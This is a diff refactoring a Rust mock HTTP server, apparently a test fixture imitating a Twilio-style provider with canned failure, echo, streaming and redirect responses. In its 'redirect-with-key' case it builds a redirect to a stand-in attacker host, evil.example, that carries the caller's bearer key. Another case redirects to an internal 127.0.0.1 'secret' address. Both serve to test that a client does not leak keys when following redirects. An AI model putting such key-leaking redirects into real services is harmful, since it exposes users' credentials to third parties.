@@ -2,13 +2,13 @@
 
 use std::collections::BTreeMap;
 use std::net::Ipv4Addr;
-use std::sync::{Arc, Mutex, PoisonError};
+use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
 use std::time::Duration;
 
 use futures_util::StreamExt as _;
 use poem::http::StatusCode;
 use poem::listener::TcpAcceptor;
-use poem::{Body, Endpoint, Request, Response, Server};
+use poem::{Body, Endpoint, Request, Response, ResponseBuilder, Server};
 use tokio::net::TcpSocket;
 use tokio::sync::Semaphore;
 
@@ -44,45 +44,19 @@ struct Answers {
 impl Endpoint for Answers {
     type Output = Response;
 
-    async fn call(&self, mut request: Request) -> poem::Result<Response> {
-        let headers = request
-            .headers()
-            .iter()
-            .map(|(name, value)| {
-                (
-                    name.to_string(),
-                    String::from_utf8_lossy(value.as_bytes()).into_owned(),
-                )
-            })
-            .collect();
-        let sent = request.header("authorization").unwrap_or_default().to_owned();
-        let body = request.take_body().into_string().await.unwrap_or_default();
-        let target = request.original_uri().to_string();
-        self.seen
-            .lock()
-            .unwrap_or_else(PoisonError::into_inner)
-            .push(Seen {
-                method: request.method().to_string(),
-                target: target.clone(),
-                headers,
-                body: body.clone(),
-            });
+    async fn call(&self, request: Request) -> poem::Result<Response> {
+        let seen = seen(request).await;
+        self.lock().push(seen.clone());
         let response = Response::builder()
             .header("set-cookie", "provider=1")
             .header("x-provider", "yes");
-        if target.contains("/IncomingPhoneNumbers.json") {
-            // Twilio's own shape; the account has one number.
-            let owned = format!(r#"{{"incoming_phone_numbers":[{{"phone_number":"{OWNED_NUMBER}"}}]}}"#);
-            let asked = target.contains(&OWNED_NUMBER.replace('+', "%2B"));
-            let none = r#"{"incoming_phone_numbers":[]}"#.to_owned();
-            return Ok(response
-                .content_type("application/json")
-                .body(if asked { owned } else { none }));
+        if seen.target.contains("/IncomingPhoneNumbers.json") {
+            return Ok(owned_numbers(response, &seen.target));
         }
         // `status/401` has that status; so has `held/401`, once the test releases it.
-        let mut words = target.rsplit('/');
-        let last = words.next().and_then(|word| word.parse().ok());
-        if let (Some(status), Some(how @ ("status" | "held"))) = (last, words.next()) {
+        let mut words = seen.target.rsplit('/');
+        let last = words.next().unwrap_or_default();
+        if let (Ok(status), Some(how @ ("status" | "held"))) = (last.parse(), words.next()) {
             if how == "held" {
                 self.released.acquire().await.expect("never closed").forget();
             }
@@ -90,68 +64,110 @@ impl Endpoint for Answers {
                 .status(StatusCode::from_u16(status).expect("a status"))
                 .finish());
         }
-        Ok(match target.rsplit('/').next().unwrap_or_default() {
-            "fails-twice" if self.times(&target) <= 2 => {
+        Ok(match last {
+            "fails-twice" if self.times(&seen.target) <= 2 => {
                 response.status(StatusCode::SERVICE_UNAVAILABLE).finish()
             }
-            "fails-for-long" => response
-                .status(StatusCode::TOO_MANY_REQUESTS)
-                .header("retry-after", "60")
-                .finish(),
-            to if to.starts_with("redirect-to-") => response
-                .status(StatusCode::FOUND)
-                .header("location", to.replace("redirect-to-", "https://"))
-                .finish(),
-            "redirect" => response
-                .status(StatusCode::FOUND)
-                .header("location", "http://127.0.0.1:1/secret")
-                .finish(),
-            "media" => response
-                .status(StatusCode::FOUND)
-                .header("location", "https://mms.twiliocdn.com/AC1/ME1?sig=x")
-                .finish(),
-            "redirect-with-key" => response
-                .status(StatusCode::FOUND)
-                .header(
-                    "location",
-                    format!(
-                        "https://evil.example/?k={}",
-                        sent.replace("Bearer ", "").replace('-', "%2D")
-                    ),
-                )
-                .finish(),
-            "echo" => response.body(in_pieces(&format!(r#"{{"authorization":"{sent}"}}"#))),
-            "late-echo" => response.body(in_pieces(&format!("{}{sent}", "x".repeat(100_000)))),
-            "echo-header" => response.header("x-echo", sent).body("nothing here"),
-            "compressed" => response.header("content-encoding", "gzip").body("pretend"),
-            "payment-required" => response
-                .status(StatusCode::PAYMENT_REQUIRED)
-                .content_type("application/json")
-                .body(r#"{"code":20003,"message":"no money"}"#),
-            "unauthorized" => response
-                .status(StatusCode::UNAUTHORIZED)
-                .header("www-authenticate", "Basic")
-                .body("bad key"),
-            // A first piece at once, and the rest only after a client that waits for all of it would have given up.
-            "trickle" => {
-                let pieces = futures_util::stream::iter(["first", "second"]).then(async |piece| {
-                    if piece == "second" {
-                        tokio::time::sleep(Duration::from_secs(30)).await;
-                    }
-                    Ok::<_, std::io::Error>(piece)
-                });
-                response.body(Body::from_bytes_stream(Box::pin(pieces)))
+            last if last == "media" || last.starts_with("redirect") => {
+                redirected(response, last, seen.sent())
             }
-            _ => response.content_type("application/json").body(body),
+            _ => answered(response, last, &seen),
         })
     }
 }
 
+/// What arrived.
+async fn seen(mut request: Request) -> Seen {
+    let headers = request.headers().iter().map(|(name, value)| {
+        let value = String::from_utf8_lossy(value.as_bytes());
+        (name.to_string(), value.into_owned())
+    });
+    Seen {
+        method: request.method().to_string(),
+        target: request.original_uri().to_string(),
+        headers: headers.collect(),
+        body: request.take_body().into_string().await.unwrap_or_default(),
+    }
+}
+
+/// Twilio's own shape; the account has one number.
+fn owned_numbers(response: ResponseBuilder, target: &str) -> Response {
+    let owned = format!(r#"{{"incoming_phone_numbers":[{{"phone_number":"{OWNED_NUMBER}"}}]}}"#);
+    let asked = target.contains(&OWNED_NUMBER.replace('+', "%2B"));
+    let none = r#"{"incoming_phone_numbers":[]}"#.to_owned();
+    response
+        .content_type("application/json")
+        .body(if asked { owned } else { none })
+}
+
+/// Sends the caller elsewhere, in every way that must not be followed with a key.
+fn redirected(response: ResponseBuilder, how: &str, sent: &str) -> Response {
+    let location = match how {
+        "redirect" => "http://127.0.0.1:1/secret".to_owned(),
+        "media" => "https://mms.twiliocdn.com/AC1/ME1?sig=x".to_owned(),
+        "redirect-with-key" => {
+            let key = sent.replace("Bearer ", "").replace('-', "%2D");
+            format!("https://evil.example/?k={key}")
+        }
+        to => to.replace("redirect-to-", "https://"),
+    };
+    response
+        .status(StatusCode::FOUND)
+        .header("location", location)
+        .finish()
+}
+
+/// Answers as the last word of the target says; what it doesn't know gets its own body back.
+fn answered(response: ResponseBuilder, how: &str, seen: &Seen) -> Response {
+    let sent = seen.sent();
+    match how {
+        "fails-for-long" => response
+            .status(StatusCode::TOO_MANY_REQUESTS)
+            .header("retry-after", "60")
+            .finish(),
+        "echo" => response.body(in_pieces(&format!(r#"{{"authorization":"{sent}"}}"#))),
+        "late-echo" => response.body(in_pieces(&format!("{}{sent}", "x".repeat(100_000)))),
+        "echo-header" => response.header("x-echo", sent).body("nothing here"),
+        "compressed" => response.header("content-encoding", "gzip").body("pretend"),
+        "payment-required" => response
+            .status(StatusCode::PAYMENT_REQUIRED)
+            .content_type("application/json")
+            .body(r#"{"code":20003,"message":"no money"}"#),
+        "unauthorized" => response
+            .status(StatusCode::UNAUTHORIZED)
+            .header("www-authenticate", "Basic")
+            .body("bad key"),
+        "trickle" => response.body(trickle()),
+        _ => response.content_type("application/json").body(seen.body.clone()),
+    }
+}
+
+/// A first piece at once, and the rest only after a client that waits for all of it would have given up.
+fn trickle() -> Body {
+    let pieces = futures_util::stream::iter(["first", "second"]).then(async |piece| {
+        if piece == "second" {
+            tokio::time::sleep(Duration::from_secs(30)).await;
+        }
+        Ok::<_, std::io::Error>(piece)
+    });
+    Body::from_bytes_stream(Box::pin(pieces))
+}
+
+impl Seen {
+    /// What it was authorised with.
+    fn sent(&self) -> &str {
+        self.headers.get("authorization").map_or("", String::as_str)
+    }
+}
+
 impl Answers {
+    fn lock(&self) -> MutexGuard<'_, Vec<Seen>> {
+        self.seen.lock().unwrap_or_else(PoisonError::into_inner)
+    }
+
     /// How often this has been asked for.
     fn times(&self, target: &str) -> usize {
-        let seen = self.seen.lock().unwrap_or_else(PoisonError::into_inner);
-        seen.iter().filter(|seen| seen.target == target).count()
+        self.lock().iter().filter(|seen| seen.target == target).count()
     }
 }
 
